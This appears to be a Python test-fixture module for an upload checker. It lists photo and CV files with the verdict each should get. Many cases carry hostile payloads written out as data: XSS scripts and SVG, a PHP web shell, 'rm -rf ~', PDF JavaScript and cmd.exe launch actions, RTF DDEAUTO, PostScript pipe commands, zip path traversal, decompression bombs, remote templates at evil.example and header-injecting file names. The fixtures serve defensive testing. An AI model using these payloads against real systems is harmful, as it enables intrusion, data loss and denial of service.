"""Uploads of people who mean harm, and of some who only look as if they did."""

import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from tests.candidates.documents import made

Verdict = Literal["refused", "remade", "kept"]
SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'
PAGE = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
# The test file of virus scanners, in pieces so that they leave this one alone.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC" + b"AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACHINE = b"MZ\x90\x00" + b"\x00" * 200
RTF = b"{\\rtf1\\ansi %s}"


@dataclass(frozen=True)
class Case:
    """`content` is made when it is asked for: some are large."""

    kind: str
    title: str
    content: Callable[[], bytes]
    verdict: Verdict = "refused"
    name: str = ""
    claims: str = "application/octet-stream"

    def __str__(self) -> str:
        return f"{self.kind}: {self.title}"


def link_entry() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/link")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def encrypted_zip() -> bytes:
    content = bytearray(made.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        content[at + place] |= 1
    return bytes(content)


def lying_zip() -> bytes:
    """It claims ten bytes for an entry of fifty million."""
    content = made.docx(("word/big.xml", b"\0" * 50_000_000))
    claim = struct.pack("<I", 50_000_000)
    return content.replace(claim, struct.pack("<I", 10))


def frames_gif() -> bytes:
    """Its screen is small and its first frame is sixty thousand pixels each way."""
    content = bytearray(made.picture("GIF"))
    at = content.index(b",", 13)
    content[at + 5 : at + 9] = struct.pack("<HH", 60_000, 60_000)
    return bytes(content)


def photo(title, content, verdict: Verdict = "refused", **more) -> Case:
    return Case("photo", title, content, verdict, **more)


def cv(title, content, verdict: Verdict = "refused", **more) -> Case:
    return Case("cv", title, content, verdict, **more)


def jpeg_with(data: bytes) -> Callable[[], bytes]:
    return lambda: made.picture("JPEG") + data


PHOTOS = (
    photo("nothing at all", lambda: b""),
    photo("a drawing that runs", lambda: SVG, name="me.svg", claims="image/svg+xml"),
    photo("a drawing that says it is a PNG", lambda: SVG, name="me.png", claims="image/png"),
    photo("a page that says it is a JPEG", lambda: PAGE, name="me.jpg", claims="image/jpeg"),
    photo("a script behind the mark of a GIF", lambda: b"GIF89a/*" + SCRIPT + b"*/=0;alert(1)"),
    photo("the mark of a JPEG and a page", lambda: b"\xff\xd8\xff\xe0" + PAGE),
    photo("the mark of a PNG and a page", lambda: b"\x89PNG\r\n\x1a\n" + PAGE),
    photo("a picture cut in half", lambda: made.picture("PNG", (400, 400))[:400]),
    photo("a JPEG cut in half", lambda: made.picture("JPEG", (400, 400), quality=100)[:2000]),
    photo("a PNG whose sum is wrong", lambda: made.picture("PNG").replace(b"IDAT", b"IDAU")),
    photo("a PNG of 900 megapixels", lambda: made.png(30_000, 30_000, b"\0" * 90_001)),
    photo("a PNG of the largest size there is", lambda: made.png(2**31 - 1, 2**31 - 1)),
    photo("a PNG without width", lambda: made.png(0, 10)),
    photo("a GIF whose frame is larger than itself", frames_gif),
    photo("a PNG whose words unpack to 200 MB", lambda: made.png(
        9, 9, b"\0" * 400, more=made.chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 200_000_000, 9)))),
    photo("ten megabytes and one byte", jpeg_with(b"\0" * 10 * 1024 * 1024)),
    photo("a TIFF", lambda: made.picture("TIFF"), name="me.jpg"),
    photo("a BMP", lambda: made.picture("BMP"), name="me.png"),
    photo("an icon", lambda: made.picture("ICO")),
    photo("PostScript, which Pillow would run", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
    photo("a PDF", made.pdf, name="me.jpg", claims="image/jpeg"),
    photo("a program", lambda: MACHINE, name="me.jpg", claims="image/jpeg"),
    photo("an archive", made.docx, name="me.png", claims="image/png"),
    photo("a JPEG with PHP behind it", jpeg_with(PHP), "remade", name="me.php.jpg"),
    photo("a JPEG with an archive behind it", lambda: made.picture() + made.docx(), "remade"),
    photo("a JPEG with a script in its comment", lambda: made.picture(comment=SCRIPT), "remade"),
    photo("a JPEG with a script in its EXIF", lambda: made.picture(exif=made.exif(t270=SCRIPT.decode())), "remade"),
    photo("a JPEG that says where it was taken", lambda: made.picture(exif=made.exif(t271="Home 52.52 N")), "remade"),
    photo("a PNG with a page among its words", lambda: made.png(
        1, 1, b"\0\1\2\3", more=made.chunk(b"tEXt", b"Comment\0" + PAGE)), "remade"),
    photo("a WebP with a script in its EXIF", lambda: made.picture(
        "WEBP", exif=made.exif(t270=SCRIPT.decode())), "remade"),
    photo("a GIF with a script in its comment", lambda: made.picture("GIF", comment=SCRIPT), "remade"),
    photo("a JPEG called a page", made.picture, "remade", name="../../me.html", claims="text/html"),
    photo("a PNG with a broken colour profile", lambda: made.picture("PNG", icc_profile=SCRIPT), "remade"),
)  # fmt: skip

DOCUMENTS = (
    cv("nothing at all", lambda: b""),
    cv("a page", lambda: PAGE, name="cv.html", claims="text/html"),
    cv("a page that says it is text", lambda: PAGE, name="cv.txt", claims="text/plain"),
    cv("a page that says it is a PDF", lambda: PAGE, name="cv.pdf", claims="application/pdf"),
    cv("a page behind blanks and a byte order mark", lambda: b"\xef\xbb\xbf \n\t" + PAGE),
    cv("a page in UTF-16", lambda: PAGE.decode().encode("utf-16")),
    cv("a drawing that runs", lambda: SVG, claims="text/plain"),
    cv("a drawing behind an XML head", lambda: b"<?xml version='1.0'?>" + SVG),
    cv("PHP", lambda: PHP, name="cv.txt"),
    cv("a script of a shell", lambda: b"#!/bin/sh\nrm -rf ~\n", name="cv.txt"),
    cv("a web archive", lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE),
    cv("a program", lambda: MACHINE, name="cv.doc", claims="application/msword"),
    cv("a program for Linux", lambda: b"\x7fELF\2\1\1" + b"\0" * 64, name="cv.pdf"),
    cv("a picture", made.picture, name="cv.pdf"),
    cv("ten megabytes and one byte", lambda: b"a" * (10 * 1024 * 1024 + 1)),
    cv("a PDF that runs a script", lambda: made.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    cv("a PDF that hides the name", lambda: made.pdf(b"<< /S/J#61vaScript /J#53 (1) >>")),
    cv("a PDF that hides it behind a comment", lambda: made.pdf(b"<< /S %x\n/JavaScript /JS (1) >>")),
    cv("a PDF that hides it in another object", lambda: made.pdf(b"/JavaScript", b"<< /S 4 0 R >>")),
    cv("a PDF with a packed script", lambda: made.pdf(made.packed(b"7 0 << /S/JavaScript /JS(1) >>"))),
    cv("a PDF packed twice", lambda: made.pdf(
        made.packed(b"7 0 <<>>", b"/Filter [/ASCIIHexDecode /FlateDecode]"))),
    cv("a PDF whose packed objects hide their name", lambda: made.pdf(
        made.packed(b"7 0 << /S/JavaScript >>").replace(b"/ObjStm", b"/O#62jStm"))),
    cv("a PDF that unpacks to 300 MB", lambda: made.pdf(made.packed(b" " * 300_000_000))),
    cv("a PDF that starts a program", lambda: made.pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    cv("a PDF that plays a film", lambda: made.pdf(b"<< /Subtype /RichMedia >>")),
    cv("a PDF with a form that scripts", lambda: made.pdf(catalog=b"/AcroForm << /XFA 4 0 R >>")),
    cv("an encrypted PDF", lambda: made.pdf(trailer=b"/Encrypt 9 0 R")),
    cv("a PDF cut in half", lambda: made.pdf()[:200]),
    cv("a PDF with a page behind it", lambda: made.pdf(end=PAGE)),
    cv("a PDF with an archive behind it", lambda: made.pdf(end=made.docx() + b"%%EOF")),
    cv("a PDF that begins as a page", lambda: made.pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + SCRIPT, 1)),
    cv("a page that becomes a PDF", lambda: SCRIPT + made.pdf(), name="cv.pdf"),
    cv("a PDF that opens ten thousand streams and closes none", lambda: made.pdf(b"/ObjStm stream " * 10_000)),
    cv("a Word file with macros", lambda: made.ole(WordDocument=b"\xec\xa5", VBA=b"x"), name="cv.doc"),
    cv("an encrypted Word file", lambda: made.ole(WordDocument=b"\xec\xa5" + b"\0" * 9 + b"\1")),
    cv("an encrypted container", lambda: made.ole(EncryptionInfo=b"1", EncryptedPackage=b"2")),
    cv("a Word file with a program in it", lambda: made.ole(WordDocument=b"1", **{"\x01Ole10Native": b"MZ"})),
    cv("slides with macros", lambda: made.ole(PowerPoint_Document=b"\x1f\x00\xff\x03\x14\x00\x00\x00")),
    cv("a spreadsheet", lambda: made.ole(Workbook=b"1"), name="cv.doc"),
    cv("an installer", lambda: made.ole(Property=b"1"), name="cv.msi"),
    cv("a container cut in half", lambda: made.ole(WordDocument=b"1")[:600]),
    cv("a container whose list of parts leads in a circle", lambda: made.ole(WordDocument=b"1").replace(
        struct.pack("<II", made.FAT, made.END), struct.pack("<II", made.FAT, 1)), "kept"),
    cv("a new Word file with macros", lambda: made.docx(("word/vbaProject.bin", b"x")), name="cv.docx"),
    cv("a Word file that says it has macros", lambda: made.docx(
        kind="application/vnd.ms-word.document.macroEnabled.main+xml"), name="cv.docm"),
    cv("a template from elsewhere", lambda: made.docx(
        relation=made.relation("attachedTemplate", "https://evil.example/t.dotm"))),
    cv("a template from a share", lambda: made.docx(
        relation=made.relation("attachedTemplate", r"\\evil.example\t.dotm"))),
    cv("a page inside of a Word file", lambda: made.docx(relation=made.relation("aFChunk", "a.mht", "Internal"))),
    cv("an object inside of a Word file", lambda: made.docx(("word/embeddings/oleObject1.bin", b"x"))),
    cv("entities that multiply", lambda: made.docx(
        ("word/_rels/a.rels", b"<!DOCTYPE a [<!ENTITY b 'bb'>]><a>&b;</a>"))),
    cv("an archive of 300 MB", lambda: made.docx(("word/big.xml", b"\0" * 300_000_000))),
    cv("an archive that lies about its size", lying_zip),
    cv("an archive of 1,500 parts", lambda: made.docx(*((f"word/{n}.xml", b"") for n in range(1500)))),
    cv("an archive that climbs out", lambda: made.docx(("../../etc/cron.d/x", b"x"))),
    cv("an archive with an absolute path", lambda: made.docx(("/etc/passwd", b"x"))),
    cv("an archive with a link", lambda: made.docx((link_entry(), b"/etc/passwd"))),
    cv("an encrypted archive", encrypted_zip),
    cv("an archive with a page before it", lambda: PAGE + made.docx()),
    cv("an archive with a page behind it", lambda: made.docx() + PAGE),
    cv("a spreadsheet of today", lambda: made.archive([("[Content_Types].xml", b"<a/>"), ("xl/workbook.xml", b"")])),
    cv("a Java program", lambda: made.archive([("META-INF/MANIFEST.MF", b"x")]), name="cv.docx"),
    cv("RTF with an object", lambda: RTF % b"{\\object\\objemb{\\*\\objdata 0105}}"),
    cv("RTF with a template from elsewhere", lambda: RTF % b"{\\*\\template http://evil.example/t}"),
    cv("RTF that calls a program", lambda: RTF % b"{\\field{\\*\\fldinst DDEAUTO cmd calc}}"),
    cv("RTF cut in half", lambda: b"{\\rtf1\\ansi hello"),
    cv("PostScript that starts a program", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"),
    cv("PostScript that deletes", lambda: b"%!PS-Adobe-3.0\n(/etc/x) deletefile\n"),
    cv("DVI with a page behind it", lambda: b"\xf7\x02" + b"\0" * 50 + b"\x02\xdf\xdf\xdf\xdf" + PAGE),
    cv("DVI that calls a program", lambda: b"\xf7\x02psfile=\"`id\x02\xdf\xdf\xdf\xdf"),
    cv("a PDF", made.pdf, "kept", name="../../../etc/cv.pdf"),
    cv("a PDF called a page", made.pdf, "kept", name="cv.html", claims="text/html"),
    cv("a PDF that names JavaScript among its words", lambda: made.pdf(b"<< /Keywords (HTML/JavaScript) >>"), "kept"),
    cv("a PDF with packed objects", lambda: made.pdf(made.packed(b"7 0 << /A 1 >>")), "kept"),
    cv("a Word file", lambda: made.ole(WordDocument=b"\xec\xa5"), "kept", name="C:\\Users\\a\\cv.exe"),
    cv("slides", lambda: made.ole(PowerPoint_Document=b"1"), "kept"),
    cv("a new Word file", made.docx, "kept", name="이력서\u202e.docx"),
    cv("a new Word file with a template of its own machine", lambda: made.docx(
        relation=made.relation("attachedTemplate", "file:///C:/Users/a/CV.dotx")), "kept"),
    cv("RTF", lambda: RTF % b"Annika", "kept", name="cv.doc", claims="application/msword"),
    cv("PostScript", lambda: b"%!PS-Adobe-3.0\nshowpage\n", "kept", name="cv.ps"),
    cv("DVI", lambda: b"\xf7\x02" + b"\0" * 50 + b"\x02\xdf\xdf\xdf\xdf", "kept"),
    cv("what virus scanners are tried with", lambda: EICAR, "kept", name="eicar.com"),
    cv("text that speaks of <script>", lambda: b"Ten years of writing <script> tags", "kept"),
    cv("Korean text of an old Windows", lambda: "경력 사항".encode("cp949"), "kept", name="이력서.txt"),
    cv("a name that ends a header", lambda: b"Annika", "kept", name='a".txt\r\nSet-Cookie: a=b'),
    cv("a name of nothing but dots", lambda: b"Annika", "kept", name="....txt"),
    cv("a name of nine hundred letters", lambda: b"Annika", "kept", name="a" * 900 + ".txt"),
)  # fmt: skip

CORPUS = PHOTOS + DOCUMENTS
